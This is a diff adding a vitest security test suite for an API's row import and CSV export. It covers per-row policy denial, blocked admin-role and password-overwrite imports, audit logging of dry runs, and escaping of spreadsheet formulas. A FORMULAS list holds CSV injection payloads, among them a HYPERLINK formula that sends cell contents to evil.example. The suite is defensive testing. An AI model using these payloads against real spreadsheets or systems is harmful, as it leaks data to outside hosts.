@@ -1,0 +1,88 @@
+/** Rows of files as a way around policies, and files that are written for spreadsheets: on both databases, unlike what only reads files. */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createWorld, type World } from './world.ts';
+
+let world: World;
+beforeAll(async () => {
+  world = await createWorld();
+});
+afterAll(() => world.close());
+
+describe('a row', () => {
+  it('that policies read is decided row by row, whatever the first are', async () => {
+    const rows = [
+      { title: 'a' },
+      { title: 'b' },
+      { title: 'mine', createdBy: world.ids.alice },
+      { title: 'theirs', ownerId: world.ids.bob },
+    ];
+    const policy = await world.createPolicy({
+      role: 'user',
+      rules: [
+        {
+          resource: 'Case',
+          action: 'import',
+          effect: 'DENY',
+          priority: 900,
+          conditions: [{ field: 'resource.ownerId', operator: 'eq', value: world.ids.bob, ifExists: true }],
+        },
+      ],
+    });
+    const raw = rows.map((row) => JSON.stringify(row)).join('\n');
+    const reply = await world.as('alice', 'POST', '/api/Case/import?onError=skip', {
+      raw,
+      headers: { 'content-type': 'application/x-ndjson' },
+    });
+    await world.as('admin', 'DELETE', `/admin/api/policies/${policy}`);
+    expect([reply.status, reply.at('data.imported'), reply.at('rejections.0')]).toMatchObject([200, 3, { row: 4, code: 'ACCESS_DENIED' }]);
+  });
+
+  it('a role that only admins set makes no admin', async () => {
+    const raw = 'name,email,password,role\nx,x@example.com,a long password,admin\n';
+    const reply = await world.as('alice', 'POST', '/api/User/import', { raw, headers: { 'content-type': 'text/csv' } });
+    expect([reply.status, reply.at('errors.0.code')]).toEqual([422, 'guarded']);
+  });
+
+  it('a password of another by upsert changes none', async () => {
+    const raw = `email,password\n${world.emails.bob},a password of mine\n`;
+    const query = 'mode=upsert&key=email';
+    for (const caller of ['alice', 'eve'] as const) {
+      const reply = await world.as(caller, 'POST', `/api/User/import?${query}`, { raw, headers: { 'content-type': 'text/csv' } });
+      expect([403, 422]).toContain(reply.status);
+    }
+    await world.logIn(world.emails.bob, world.passwords);
+  });
+
+  it('a dry run of nothing but probes is on the record', async () => {
+    const raw = JSON.stringify({ title: 'probe' });
+    const before = (await world.decisions('action=import&limit=200')).length;
+    await world.as('alice', 'POST', '/api/Case/import?dryRun=true', { raw, headers: { 'content-type': 'application/x-ndjson' } });
+    expect((await world.decisions('action=import&limit=200')).length).toBe(before + 1);
+  });
+});
+
+/** Texts that spreadsheets run, or that hide one that they would. */
+const FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', ' =1', '=HYPERLINK("http://evil.example?"&A1)', "'=1", '\uff1d1'];
+
+describe('a text that a spreadsheet would run', () => {
+  it('leaves every CSV export as text, and comes back as it was', async () => {
+    const raw = FORMULAS.map((title) => JSON.stringify({ title, origin: 'formula' })).join('\n');
+    const file = { raw, headers: { 'content-type': 'application/x-ndjson' } };
+    expect((await world.as('eve', 'POST', '/api/Case/import', file)).status).toBe(200);
+    const where = { origin: 'formula' };
+    const plain = await world.as('eve', 'POST', '/api/Case/list', { body: { where } });
+    const stored = (plain.at('data') as { title: string }[]).map(({ title }) => title);
+    expect(stored.toSorted()).toEqual(FORMULAS.toSorted());
+    for (const delimiter of ['', '&delimiter=;', '&delimiter=tab']) {
+      const csv = await world.as('eve', 'POST', `/api/Case/export?format=csv${delimiter}`, { body: { where, fields: ['title'] } });
+      const cells = [...csv.text.matchAll(/^[0-9a-f-]{36}[,;\t]"?(.)/gmu)].map(([, first]) => first);
+      expect(cells, csv.text).toEqual(FORMULAS.map(() => "'"));
+    }
+    const csv = await world.as('eve', 'POST', '/api/Case/export?format=csv', { body: { where, fields: ['title', 'amount'] } });
+    const again = await world.as('eve', 'POST', '/api/Case/import?mode=upsert&key=id&onError=skip', {
+      raw: csv.text,
+      headers: { 'content-type': 'text/csv' },
+    });
+    expect([again.at('data.unchanged'), again.at('data.rejected')]).toEqual([FORMULAS.length, 0]);
+  });
+});
